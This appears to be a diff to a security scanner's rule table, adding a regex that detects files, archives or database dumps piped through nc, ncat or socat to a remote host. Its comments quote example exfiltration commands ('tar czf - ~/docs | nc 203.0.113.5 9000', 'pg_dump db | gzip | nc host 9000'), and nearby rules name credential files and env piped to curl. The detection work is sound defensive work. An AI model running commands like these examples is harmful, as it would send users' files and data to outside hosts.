@@ -81,6 +81,13 @@ _STRUCT_SOURCES: tuple[tuple[str, str, str | None, int], ...] = (
      r"|\.env\b|\bcredentials\b|config\.json\b",
      r"\|\s?(?:curl|wget|nc|ncat|socat)\b|\bnc \d|--post-file|\bcurl\b[^\n|]{0,40}-[tdf]\b"
      r"|\bhttps?://", 80),
+    # files, archives or database dumps piped to a raw socket on another host ("tar czf - ~/docs |
+    # nc 203.0.113.5 9000", "pg_dump db | gzip | nc host 9000"); "echo ... | nc host 80" and
+    # "nc -z" port checks send nothing of the user's
+    _rule("exfiltration",
+     r"\b(?:cat|tar|pg_dump|mysqldump|mongodump|sqlite3|gzip|zip|7z|xxd|base64|dd|find)\b[^|\n]{0,120}"
+     r"(?:\|[^|\n]{0,60}){0,3}\|\s?(?:nc|ncat|netcat|socat)\s(?:-\w{1,3}\s)*(?!-z)"
+     r"(?!localhost\b|127\.)[\w.-]{2,80}\s\d{2,5}\b", None, 0),
     _rule("exfiltration", r"--post-file\s?=?\s?\S{0,80}(?:\.ssh|\.aws|\.docker|\.kube|\.env|credential)",
      None, 0),
     _rule("exfiltration", r"\b(?:printenv|env)\b\s?\|", r"\b(?:curl|wget|nc)\b", 80),
